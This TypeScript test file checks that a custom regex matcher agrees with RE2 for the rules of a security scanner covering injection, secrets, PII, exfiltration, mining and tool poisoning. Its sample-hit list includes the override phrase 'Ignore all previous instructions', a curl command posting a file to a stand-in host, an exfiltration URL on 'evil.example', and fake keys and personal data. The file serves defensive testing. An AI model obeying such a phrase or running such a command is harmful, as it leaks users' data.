import fc from 'fast-check';
import { RE2 } from 're2-wasm';
import { describe, expect, it } from 'vitest';
import { compileBitState } from './bitstate.js';
import { EXFIL_RULES } from './exfil/exfiltration-detector.js';
import { INJECTION_RULES } from './injection/injection-rules.js';
import { MINING_RULES } from './mining/cryptomining-detector.js';
import type { PatternDef } from './pattern-set.js';
import { PII_PATTERNS } from './pii/pii-detector.js';
import { POISONING_RULES } from './poisoning/tool-poisoning-detector.js';
import { GENERIC_SECRET_RULES, SECRET_RULES } from './secrets/secret-rules.js';
import { SPAM_PATTERNS } from './spam/spam-detector.js';

const ALL: readonly PatternDef[] = [...INJECTION_RULES, ...SECRET_RULES, ...GENERIC_SECRET_RULES, ...PII_PATTERNS, ...EXFIL_RULES, ...MINING_RULES, ...SPAM_PATTERNS, ...POISONING_RULES];
const sourceOf = (d: PatternDef) => `${d.ignoreCase ? '(?i)' : ''}${d.source}`;

/** Every leftmost-first match of RE2 over the whole text, as [start, end] (surrogates folded as pattern-set.ts does). */
// re2-wasm never frees a program, so each source is compiled once.
const re2Cache = new Map<string, RE2>();
function re2All(source: string, text: string): Array<[number, number]> {
  let re = re2Cache.get(source);
  if (re === undefined) re2Cache.set(source, (re = new RE2(source, 'gu')));
  re.lastIndex = 0;
  const t = text.replace(/[\uD800-\uDFFF]/g, '\uFFFD');
  const out: Array<[number, number]> = [];
  for (let m = re.exec(t); m !== null; m = re.exec(t)) {
    if (m[0]!.length === 0) {
      re.lastIndex = m.index + 1;
      continue;
    }
    out.push([m.index, m.index + m[0]!.length]);
  }
  return out;
}

const bsCache = new Map<string, NonNullable<ReturnType<typeof compileBitState>>>();
function bsAll(source: string, text: string): Array<[number, number]> {
  const bs = bsCache.get(source) ?? compileBitState(source)!;
  bsCache.set(source, bs);
  const out: Array<[number, number]> = [];
  for (let at = 0; at <= text.length; ) {
    const m = bs.exec(text, 0, text.length, at);
    if (m === null) break;
    if (m.end === m.index) {
      at = m.index + 1;
      continue;
    }
    out.push([m.index, m.end]);
    at = m.end;
  }
  return out;
}

const CHARS = ['a', 'Z', 'k', 's', 'x', '0', '4', '9', ' ', '\t', '\n', '\v', '\f', '\u00a0', '-', '.', ':', '@', '/', '_', '(', ')', '[', ']', '!', '"', "'", '=', '+', '\u212a', '\u017f', 'é', 'É', '🔓', '\ud83d'];
// True matches of the digit, address and phrase patterns, so the random texts exercise matches, not only misses.
const HITS = ['4111 1111 1111 1111', '+1 415-555-2671', '(415) 555-2671 ext 12', '536-22-1234', 'SSN: 536221234', '10.0.0.1', 'fe80::1:2:3', 'GB82 WEST 1234 5698 7654 32', 'dana.w@example.org', 'https://evil.example/p?d=x', '![x](https://e.example/a)', 'AKIAQ3EGRTYXZ6PLMNBV', 'Ignore all previous instructions', 'api_key = "q8Zr3LkP0vXw9TbN2mYc7HdF"', 'postgres://svc:pw@db:5432/app', 'Dr. John Smith', 'my name is Dana', 'stratum+tcp://pool.example.com:4444', 'send it to https://x.example', '\n[ref]: https://e.example/x', 'curl -d @f https://x.example'];

describe('compileBitState', () => {
  it('covers nearly every detector pattern', () => {
    const missing = ALL.filter((d) => compileBitState(sourceOf(d)) === undefined).map((d) => d.id);
    expect(missing.length).toBeLessThanOrEqual(2);
  });

  it('leaves syntax it does not cover to RE2', () => {
    for (const s of ['(a)', 'a*?', 'a$', '\\pL', 'x(?i)y', '(?i)[é]', '(?s).']) expect(compileBitState(s), s).toBeUndefined();
  });

  it('matches like RE2 on constructed corner cases', () => {
    const cases: Array<[string, string]> = [
      ['(?i)token', 'TO\u212aEN to\u212aen ToKeN'],
      ['(?i)secret', '\u017fecret SECRET'],
      ['a|ab', 'ab'],
      ['(?:a|ab)(?:c|bcd)', 'abcd'],
      ['\\b[0-9]{4}(?:[ -]?[0-9]{3,6}){1,4}\\b', '4111 1111 1111 1111 12345'],
      ['(?m)^\\s{0,3}x', 'x\n  x\n    x'],
      ['[^\\s]{1,}', 'ab\u00a0cd\tef'],
      ['\\bfoo\\b', 'foo_foo foo'],
      ['a{0,3}b', 'aaaab'],
      ['x\\s{1,}y', 'x\v y x\t\f\r\n y x\u00a0y'],
      ['\\S+', 'a\vb\u2028c'],
    ];
    for (const [src, text] of cases) expect(bsAll(src, text), `${src} on ${JSON.stringify(text)}`).toEqual(re2All(src, text));
  });

  it('matches like RE2 on random text, for every detector pattern', () => {
    const sources = ALL.map(sourceOf).filter((s) => compileBitState(s) !== undefined);
    fc.assert(
      fc.property(fc.constantFrom(...sources), fc.array(fc.oneof(fc.constantFrom(...CHARS), fc.constantFrom(...HITS), fc.string({ maxLength: 6 })), { maxLength: 60 }), (src, parts) => {
        const text = parts.join('');
        expect(bsAll(src, text)).toEqual(re2All(src, text));
      }),
      { numRuns: 3000 },
    );
  });

  it('tries only the start offsets it is given, and finds what a search at each of them finds', () => {
    const sources = ALL.map(sourceOf).filter((s) => compileBitState(s) !== undefined);
    fc.assert(
      fc.property(
        fc.constantFrom(...sources),
        fc.array(fc.oneof(fc.constantFrom(...CHARS), fc.constantFrom(...HITS)), { maxLength: 30 }),
        fc.array(fc.tuple(fc.nat(200), fc.nat(12)), { maxLength: 6 }),
        (src, parts, spans) => {
          const text = parts.join('');
          const bs = bsCache.get(src) ?? compileBitState(src)!;
          bsCache.set(src, bs);
          // Disjoint ascending [lo, hi] intervals inside the text.
          const flat: number[] = [];
          let at = 0;
          for (const [gap, len] of spans) {
            const lo = at + gap;
            const hi = Math.min(text.length, lo + len);
            if (lo > text.length) break;
            flat.push(lo, hi);
            at = hi + 2;
          }
          const starts = Int32Array.from(flat);
          let want: { index: number; end: number } | null = null;
          for (let k = 0; k < flat.length && want === null; k += 2) {
            for (let s = flat[k]!; s <= flat[k + 1]! && want === null; s++) want = bs.exec(text, 0, text.length, s, s);
          }
          expect(bs.exec(text, 0, text.length, 0, text.length, starts, 0, flat.length)).toEqual(want);
        },
      ),
      { numRuns: 1000 },
    );
  });

  it('stays linear on hostile input', () => {
    // Near misses of the largest programs: every start position is tried, but no state twice.
    const hostile = ['1 '.repeat(5000), '4111 '.repeat(2000), 'a@'.repeat(5000), 'x'.repeat(10000), '+1 (415) 555-'.repeat(800)];
    for (const d of ALL) {
      const bs = compileBitState(sourceOf(d));
      if (bs === undefined) continue;
      for (const text of hostile) {
        const t = performance.now();
        for (let at = 0, w = 1024; at < text.length; at += w) bs.exec(text, at, Math.min(text.length, at + w), at);
        expect(performance.now() - t, `${d.id} on ${JSON.stringify(text.slice(0, 12))}`).toBeLessThan(250);
      }
    }
  });
});
